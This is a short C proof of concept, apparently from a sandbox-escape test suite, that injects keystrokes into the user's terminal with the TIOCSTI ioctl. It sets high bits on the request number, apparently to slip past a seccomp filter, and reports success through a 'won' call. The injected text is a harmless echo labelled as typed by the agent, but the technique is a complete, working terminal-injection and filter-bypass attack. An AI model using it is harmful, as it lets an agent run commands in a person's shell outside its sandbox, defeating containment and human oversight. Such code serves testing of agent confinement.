/* Type a command into the person's terminal. */
#include "attack.h"
int main(void) {
    const char *typed = "echo typed by the agent\n";
    long tty = open("/dev/tty", O_RDWR);
    for (; *typed; typed++)
        if (syscall(SYS_ioctl, tty, 1UL << 32 | TIOCSTI, typed) && ioctl((int)tty, TIOCSTI, typed))
            return 1;
    return won(1);
}
